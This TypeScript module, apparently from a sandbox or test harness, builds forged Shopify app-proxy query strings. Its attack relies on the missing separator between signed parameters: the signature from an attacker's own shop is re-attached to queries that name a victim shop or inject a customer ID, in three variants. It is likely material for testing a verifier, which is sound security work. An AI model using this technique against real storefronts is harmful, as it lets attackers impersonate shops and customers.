import { sign } from "../../sandbox/shopify/storefront/app-proxy.ts";

/**
 * Queries that an attacker makes from one that Shopify signed for their own shop: the signed pairs have no separator, so the same
 * signature fits a query for the victim: with a parameter of the attacker's own, with Shopify's alone, and with a `shop` of the attacker's
 * before the real one, which is signed with it.
 */
export function recutProxyQueries(victim: string, secret: string, seconds: number): URLSearchParams[] {
  const time = String(seconds);
  const real = { logged_in_customer_id: "", path_prefix: "/apps/real", shop: "mine.myshopify.com", timestamp: time };
  const realText = `path_prefix=${real.path_prefix}shop=${real.shop}timestamp=${time}`;
  const wanted = { path_prefix: "/a/evil", shop: victim, timestamp: time };
  const wantedText = `path_prefix=/a/evilshop=${victim}timestamp=${time}`;
  const twice = new URLSearchParams([["shop", `${victim}t=`], ...Object.entries(real)]);
  const ofTwice = { logged_in_customer_id: "", path_prefix: real.path_prefix, shop: victim };
  return [
    { asked: twice, forged: { ...ofTwice, t: `,${real.shop}`, timestamp: time } },
    {
      asked: { ...real, m: `${wantedText}z=` },
      forged: { ...wanted, logged_in_customer_id: "m=", z: realText },
    },
    {
      asked: { ...real, u: wantedText },
      forged: { ...wanted, logged_in_customer_id: `${realText}u=` },
    },
  ].map(({ asked, forged }) => {
    const signature = sign(new URLSearchParams(asked), secret);
    return new URLSearchParams({ ...forged, signature });
  });
}
